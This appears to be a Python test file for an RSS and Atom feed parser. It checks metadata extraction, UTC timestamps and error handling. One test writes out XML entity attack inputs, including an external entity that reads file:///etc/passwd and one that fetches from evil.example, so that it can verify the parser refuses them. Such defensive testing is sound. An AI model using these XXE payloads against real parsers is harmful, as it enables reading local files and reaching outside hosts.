"""RSS and Atom: each entry a source with what the feed says of it."""

from __future__ import annotations

import io
import json

import pytest

from onrecord.errors import SourceError
from onrecord.sources.feeds import feed_sources
from onrecord.sources.source import Source

RSS = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>The Orontes Post</title><link>https://orontes.example/</link><language>en-gb</language>
<item><title>Raid on market kills nine</title><link>https://orontes.example/2016/10/raid</link><guid>raid-1</guid>
<pubDate>Fri, 14 Oct 2016 08:30:00 +0300</pubDate><dc:creator>Lina Said</dc:creator>
<description>A raid killed nine people.</description>
<content:encoded><![CDATA[<p>A raid on a market killed nine people, doctors said.</p>]]></content:encoded></item>
<item><title>Talks resume</title><description>Envoys meet in Geneva on Saturday.</description></item>
</channel></rss>"""

ATOM = """<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Barada Wire</title>
<entry><title>Convoy reaches town</title><id>tag:barada.example,2016:1</id><link href="https://barada.example/1"/>
<published>2016-10-14T08:30:00Z</published>
<updated>2016-10-15T09:00:00Z</updated><author><name>R. Haddad</name></author>
<summary>A convoy reached the town.</summary></entry></feed>"""


def entries(feed: str) -> list[dict[str, object]]:
    found = list(feed_sources(io.BytesIO(feed.encode()), "feed.xml"))
    assert all(isinstance(source, Source) and source.kind == "feed-entry" for source in found)
    return [json.loads(source.data) for source in found if isinstance(source, Source)]


def test_an_entry_carries_what_the_feed_says_in_utc() -> None:
    first, second = entries(RSS)
    assert first == {
        "id": "raid-1",
        "url": "https://orontes.example/2016/10/raid",
        "title": "Raid on market kills nine",
        "outlet": "The Orontes Post",
        "byline": "Lina Said",
        "published": "2016-10-14T05:30:00+00:00",
        "updated": None,
        "language": "en-gb",
        "html": "<p>A raid on a market killed nine people, doctors said.</p>",
        "full": True,
    }
    assert (second["html"], second["full"], second["published"]) == ("Envoys meet in Geneva on Saturday.", False, None)


def test_atom_tells_published_from_updated() -> None:
    (entry,) = entries(ATOM)
    assert (entry["published"], entry["updated"]) == ("2016-10-14T08:30:00+00:00", "2016-10-15T09:00:00+00:00")
    assert (entry["byline"], entry["url"]) == ("R. Haddad", "https://barada.example/1")


def test_an_entry_has_its_place_and_address_and_the_same_bytes_each_time() -> None:
    first, again = (list(feed_sources(io.BytesIO(RSS.encode()), "feed.xml")) for _ in range(2))
    assert first == again
    assert isinstance(first[0], Source)
    assert (first[0].origin, first[0].url) == ("feed.xml#1", "https://orontes.example/2016/10/raid")


@pytest.mark.parametrize(
    ("entity", "message"),
    [
        ('<!ENTITY a "x"><!ENTITY b "&a;&a;">', "refer to other entities or files"),
        ('<!ENTITY a SYSTEM "file:///etc/passwd">', "refer to other entities or files"),
        ('<!ENTITY % a SYSTEM "http://evil.example/x">', "refer to other entities or files"),
    ],
)
def test_entities_that_grow_or_reach_out_are_refused(entity: str, message: str) -> None:
    attack = f'<?xml version="1.0"?><!DOCTYPE rss [{entity}]>{RSS[39:]}'
    with pytest.raises(SourceError, match=message):
        list(feed_sources(io.BytesIO(attack.encode()), "feed.xml"))


def test_a_plain_entity_is_no_attack() -> None:
    assert len(entries(f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;">]>{RSS[39:]}')) == 2


def test_a_feed_with_broken_bytes_in_its_head_is_a_fault() -> None:
    with pytest.raises(SourceError, match="is a damaged feed"):
        list(feed_sources(io.BytesIO(RSS.encode().replace(b"UTF-8", b"U\xdfF-8", 1)), "feed.xml"))


def test_a_feed_without_entries_is_a_fault() -> None:
    with pytest.raises(SourceError, match="is a feed without entries"):
        list(feed_sources(io.BytesIO(b"<rss><channel><title>x</title></channel></rss>"), "feed.xml"))
